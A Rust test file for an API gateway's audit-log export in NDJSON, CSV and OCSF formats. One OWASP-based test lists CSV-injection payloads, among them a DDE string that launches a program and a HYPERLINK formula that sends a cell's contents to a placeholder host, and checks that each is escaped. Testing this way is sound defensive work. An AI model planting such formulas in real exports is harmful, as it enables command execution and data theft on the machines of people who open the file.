use jiff::Timestamp;
use serde_json::{Value, json};

use super::super::StoredOutcome;
use super::*;
use crate::domain::{AccountId, CredentialId, RequestId, TokenId};

fn at() -> Timestamp {
    "2026-11-24T01:58:23.456789Z".parse().expect("a time")
}

fn row(kind: &str, method: &str, path: &str) -> Row {
    Row {
        seq: 7,
        id: RequestId::from_bytes([1; 16]),
        kind: kind.into(),
        at: at(),
        correlation: None,
        actor: "unknown".into(),
        account: None,
        credential: None,
        token: None,
        client: None,
        method: method.into(),
        path: path.into(),
        query: None,
        endpoint: None,
        policy: None,
        rule: None,
        policy_snapshot: None,
        generation: 1,
        decision: "denied".into(),
        code: None,
        status: None,
        verdicts: vec![("request".into(), "allowed".into(), "one meaning".into())],
        detail: None,
        node: "node-1".into(),
        cause: None,
        repeats: 1,
        schedule: None,
        kill_switch: None,
        tls: None,
        outcome: None,
    }
}

fn relay() -> Row {
    let credential = CredentialId::from_bytes([2; 16]);
    Row {
        correlation: Some("client-1".into()),
        actor: format!("credential:{credential}"),
        account: Some(AccountId::from_bytes([3; 16])),
        credential: Some(credential),
        token: Some(TokenId::from_bytes([4; 16])),
        client: Some("10.0.0.3".into()),
        query: Some("open=1".into()),
        endpoint: Some("orders.list".into()),
        policy: Some("order-reader".into()),
        rule: Some("read".into()),
        decision: "allowed".into(),
        outcome: Some(StoredOutcome {
            seq: 8,
            at: at(),
            ended: "completed".into(),
            status: Some(200),
            code: None,
            detail: None,
            upstream_peer: Some("10.0.0.9:8080".into()),
            upstream_status: Some(200),
            attempts: 1,
            duration: 12_345,
            upstream_duration: Some(11_000),
            request_bytes: 0,
            response_bytes: 532,
            request_preview: None,
            response_preview: Some("{\"a\": \"x, \"\"y\"}".into()),
        }),
        ..row("relay", "GET", "/v1/orders")
    }
}

fn attempt() -> Row {
    Row {
        credential: Some(CredentialId::from_bytes([2; 16])),
        client: Some("10.0.0.3".into()),
        code: Some("credentials_invalid".into()),
        status: Some(401),
        ..row("token_attempt", "POST", "token")
    }
}

fn change() -> Row {
    Row {
        actor: "operator:root".into(),
        decision: "allowed".into(),
        detail: Some(r#"{"before":"active","after":"revoked"}"#.into()),
        ..row("change", "credential.revoke", "abc")
    }
}

fn system(method: &str) -> Row {
    Row { actor: "system".into(), decision: "allowed".into(), ..row("system", method, "erp") }
}

fn written(format: Format, rows: &[Row]) -> String {
    let mut out = Vec::new();
    write_header(format, &mut out).expect("written");
    for row in rows {
        write_row(format, row, &mut out).expect("written");
    }
    String::from_utf8(out).expect("UTF-8")
}

fn cells(rows: &[Row]) -> Vec<Vec<String>> {
    let text = written(Format::Csv, rows);
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|record| record.expect("a record").iter().map(str::to_owned).collect()).collect()
}

fn event(row: &Row) -> Value {
    let text = written(Format::Ocsf, std::slice::from_ref(row));
    assert_eq!(text.matches('\n').count(), 1);
    serde_json::from_str(&text).expect("JSON")
}

#[test]
fn an_ndjson_line_is_the_row() {
    let text = written(Format::Ndjson, &[relay(), change()]);
    let rows: Vec<Row> = text.lines().map(|line| serde_json::from_str(line).expect("a row")).collect();
    assert_eq!(rows.len(), 2);
    assert_eq!(json!(rows), json!([relay(), change()]));
}

#[test]
fn a_csv_has_a_header_a_record_for_each_row_and_gives_every_text_back() {
    let text = written(Format::Csv, &[relay(), row("relay", "GET", "/a\r\n\"b\",c")]);
    assert!(text.starts_with("\"seq\",\"id\",\"kind\",") && text.ends_with("\"\r\n"), "{text}");
    let records = cells(&[relay(), row("relay", "GET", "/a\r\n\"b\",c")]);
    assert_eq!(records.len(), 3);
    let column = |record: usize, name: &str| {
        let index = records[0].iter().position(|header| header == name).expect("a column");
        records[record][index].as_str()
    };
    assert_eq!((column(1, "at"), column(1, "endpoint")), ("2026-11-24T01:58:23.456789Z", "orders.list"));
    assert_eq!((column(1, "outcome_status"), column(1, "outcome_code")), ("200", ""));
    assert_eq!(column(1, "outcome_response_preview"), "{\"a\": \"x, \"\"y\"}");
    assert_eq!(column(1, "verdicts"), r#"[["request","allowed","one meaning"]]"#);
    assert_eq!((column(2, "path"), column(2, "outcome_status")), ("/a\r\n\"b\",c", ""));
}

#[test]
fn every_member_of_a_row_has_its_column() {
    let row = serde_json::to_value(relay()).expect("JSON");
    let of = |value: &Value| value.as_object().expect("an object").keys().cloned().collect::<Vec<_>>();
    let mut members: Vec<String> = of(&row).into_iter().filter(|name| name != "outcome").collect();
    members.extend(of(&row["outcome"]).iter().map(|name| format!("outcome_{name}")));
    let mut columns: Vec<String> = spreadsheet::COLUMNS.iter().map(|name| (*name).to_owned()).collect();
    members.sort_unstable();
    columns.sort_unstable();
    assert_eq!(members, columns);
}

/// OWASP, CSV Injection.
#[test]
fn a_cell_that_a_spreadsheet_would_run_begins_with_an_apostrophe() {
    for formula in [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\tx",
        "\rx",
        "\nx",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "−1",
        " =1",
        "\u{a0}=1",
        "\u{feff}=1",
        "\u{200b}@x",
        "\u{0}=1",
        "=HYPERLINK(\"http://x/?\"&A1;\"y\")",
        "=1\",=2,\"",
    ] {
        assert_eq!(spreadsheet::harmless(formula.to_owned()), format!("'{formula}"), "{formula:?}");
        let records = cells(&[Row { correlation: Some(formula.to_owned()), ..row("relay", "GET", "/a") }]);
        assert_eq!(records[1][4], format!("'{formula}"), "in one cell of its own: {formula:?}");
    }
    for plain in ["", "a=1", "/v1/orders", "'=1", "1-2", "2026-11-24T01:58:23Z", "{\"a\":-1}", "ﬁ", "x\t=1"] {
        assert_eq!(spreadsheet::harmless(plain.to_owned()), plain);
    }
}

#[test]
fn every_event_has_what_its_class_requires() {
    let requires = |class: u64| -> &[&str] {
        match class {
            3002 => &["/user", "/service/name"],
            6002 => &["/app/name", "/app/vendor_name"],
            6003 => &["/actor/user", "/api/operation", "/api/request/uid", "/src_endpoint", "/resources/0/name"],
            other => panic!("class {other}"),
        }
    };
    let relay_without_client = Row { client: None, outcome: None, ..relay() };
    let unmapped = row("relay", "BREW", "/coffee");
    for (row, class, activity) in [
        (relay(), 6003, 2),
        (relay_without_client, 6003, 2),
        (unmapped, 6003, 99),
        (Row { method: "POST".into(), ..relay() }, 6003, 1),
        (Row { method: "PATCH".into(), ..relay() }, 6003, 3),
        (Row { method: "DELETE".into(), ..relay() }, 6003, 4),
        (change(), 6003, 4),
        (Row { method: "account.create".into(), ..change() }, 6003, 1),
        (Row { method: "account.suspend".into(), ..change() }, 6003, 3),
        (attempt(), 3002, 1),
        (row("token_attempt", "POST", "revoke"), 3002, 2),
        (row("token_attempt", "POST", "introspect"), 3002, 99),
        (system("upstream.login"), 3002, 1),
        (system("start"), 6002, 3),
        (system("stop"), 6002, 4),
        (system("audit.prune"), 6002, 99),
    ] {
        let event = event(&row);
        let number = |key: &str| event[key].as_u64().unwrap_or_else(|| panic!("`{key}` of {event:#}"));
        assert_eq!((number("class_uid"), number("activity_id")), (class, activity), "{event:#}");
        assert_eq!(number("category_uid"), class / 1000);
        assert_eq!(number("type_uid"), class * 100 + activity);
        assert_eq!(number("time"), 1_795_485_503_456, "milliseconds");
        assert!((1..=3).contains(&number("severity_id")) && number("status_id") <= 2);
        let always = ["/metadata/version", "/metadata/product/name", "/metadata/product/vendor_name", "/metadata/uid"];
        for attribute in always.iter().chain(requires(class)).chain(&["/actor", "/unmapped/kind", "/activity_name"]) {
            let found = event.pointer(attribute);
            assert!(found.is_some_and(|value| !value.is_null() && value != ""), "{attribute} of {event:#}");
        }
        assert_eq!(event["metadata"]["version"], "1.4.0");
        assert!(!event.to_string().contains(":null"), "the schema knows no null: {event}");
        let endpoint = &event["src_endpoint"];
        assert!(class == 6002 || !endpoint["ip"].is_null() || !endpoint["name"].is_null(), "{event:#}");
    }
}

#[test]
fn what_the_gateway_did_by_itself_keeps_every_member() {
    let unmapped = event(&system("start"))["unmapped"].clone();
    assert_eq!(
        (&unmapped["method"], &unmapped["path"], &unmapped["node"]),
        (&json!("start"), &json!("erp"), &json!("node-1"))
    );
}

#[test]
fn a_relay_tells_request_answer_session_and_destination() {
    let event = event(&relay());
    assert_eq!(event["http_request"]["http_method"], "GET");
    assert_eq!(event["http_request"]["url"], json!({ "path": "/v1/orders", "query_string": "open=1" }));
    assert_eq!(event["http_response"], json!({ "code": 200, "length": 532, "latency": 12 }));
    assert_eq!(event["dst_endpoint"], json!({ "ip": "10.0.0.9", "port": 8080 }));
    assert_eq!(event["api"]["operation"], "orders.list");
    assert_eq!(event["actor"]["session"]["uid"], TokenId::from_bytes([4; 16]).to_string());
    assert_eq!((&event["status_id"], &event["severity_id"]), (&json!(1), &json!(1)));
    assert_eq!(event["metadata"]["correlation_uid"], "client-1");
    assert_eq!((&event["unmapped"]["rule"], &event["unmapped"]["outcome"]["attempts"]), (&json!("read"), &json!(1)));
}

#[test]
fn success_failure_and_what_is_not_known_are_told_apart() {
    let ended = |ended: &str, code: Option<&str>| {
        let mut row = relay();
        let outcome = row.outcome.as_mut().expect("an outcome");
        ended.clone_into(&mut outcome.ended);
        outcome.code = code.map(str::to_owned);
        row
    };
    for (row, status, severity) in [
        (relay(), 1, 1),
        (ended("completed", Some("upstream_app_error")), 2, 3),
        (ended("failed", Some("upstream_timeout")), 2, 3),
        (ended("aborted", None), 2, 1),
        (ended("cut", Some("kill_switch_engaged")), 2, 2),
        (ended("interrupted", None), 0, 1),
        (Row { outcome: None, ..relay() }, 0, 1),
        (attempt(), 2, 2),
        (change(), 1, 1),
        (row("relay", "GET", "/a"), 2, 2),
    ] {
        let event = event(&row);
        assert_eq!((&event["status_id"], &event["severity_id"]), (&json!(status), &json!(severity)), "{event:#}");
    }
}

#[test]
fn a_wrong_password_names_the_set_that_was_tried_and_not_as_the_actor() {
    let event = event(&attempt());
    assert_eq!(event["user"]["uid"], CredentialId::from_bytes([2; 16]).to_string());
    assert_eq!(event["actor"]["user"], json!({ "name": "unknown", "type": "Unknown", "type_id": 0 }));
    assert_eq!((&event["auth_protocol_id"], &event["status_code"]), (&json!(6), &json!("401")));
    assert_eq!(event["http_request"]["url"]["path"], "/oauth/token");
}
